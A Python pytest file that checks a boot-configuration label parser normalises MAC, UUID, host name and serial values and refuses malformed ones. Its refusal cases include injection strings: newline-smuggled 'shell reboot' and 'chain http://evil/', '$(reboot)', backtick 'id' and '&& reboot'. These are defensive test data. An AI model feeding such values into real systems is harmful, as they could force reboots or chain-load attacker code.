"""Query label validation: good shapes normalised, hostile values refused."""

from __future__ import annotations

import pytest

from appliance.bootcfg.labels import LabelError, parse_labels


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("mac", "52:54:00:AB:cd:EF", "52:54:00:ab:cd:ef"),
        ("mac", "52-54-00-ab-cd-ef", "52:54:00:ab:cd:ef"),
        ("mac", "525400ABCDEF", "52:54:00:ab:cd:ef"),
        ("uuid", "16E7D8A7-BFA9-428B-9117-363341BB330B", "16e7d8a7-bfa9-428b-9117-363341bb330b"),
        ("hostname", "Node-1.Example.com", "node-1.example.com"),
        ("domain", "lab.example", "lab.example"),
        ("serial", "To be filled by O.E.M.", "To be filled by O.E.M."),
        ("serial", "VMware-56 4d 1a", "VMware-56 4d 1a"),
        ("os", "installed", "installed"),
        ("region", "us-east_1:a", "us-east_1:a"),
    ],
)
def test_good_values_are_normalised(key: str, value: str, expected: str) -> None:
    assert parse_labels([(key, value)]).values == {key: expected}


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("mac", "52:54:00:12:34", "mac: not a MAC address"),
        ("mac", "52:54:00:12:34:56\nshell reboot", "mac: not a MAC address"),
        ("mac", "${net0/mac}", "mac: not a MAC address"),
        ("uuid", "16e7d8a7-bfa9-428b-9117", "uuid: not a UUID"),
        ("hostname", "a;reboot", "hostname: not a host name"),
        ("hostname", "-bad", "hostname: not a host name"),
        ("hostname", "x" * 64, "hostname: not a host name"),
        ("serial", "abc$(reboot)", "serial: not a serial number"),
        ("serial", "abc\nchain http://evil/", "serial: not a serial number"),
        ("serial", "`id`", "serial: not a serial number"),
        ("os", "installed && reboot", "os: value not allowed"),
        ("os", "a'b", "os: value not allowed"),
        ("os", "${x}", "os: value not allowed"),
        ("Bad-Key", "x", "label name not allowed"),
        ("k;y", "x", "label name not allowed"),
    ],
)
def test_hostile_values_are_refused(key: str, value: str, message: str) -> None:
    with pytest.raises(LabelError, match=message.replace("$", r"\$").replace("(", r"\(")):
        parse_labels([(key, value)])


def test_empty_values_mean_not_given() -> None:
    labels = parse_labels([("mac", "52-54-00-12-34-56"), ("hostname", ""), ("serial", "")])
    assert labels.values == {"mac": "52:54:00:12:34:56"}
    assert labels.mac == "52:54:00:12:34:56"


def test_repeated_and_too_many_labels_refused() -> None:
    with pytest.raises(LabelError, match="more than once"):
        parse_labels([("os", "a"), ("os", "b")])
    with pytest.raises(LabelError, match="more than 32 labels"):
        parse_labels([(f"k{i}", "v") for i in range(33)])
    with pytest.raises(LabelError, match="longer than"):
        parse_labels([], "x" * 3000)
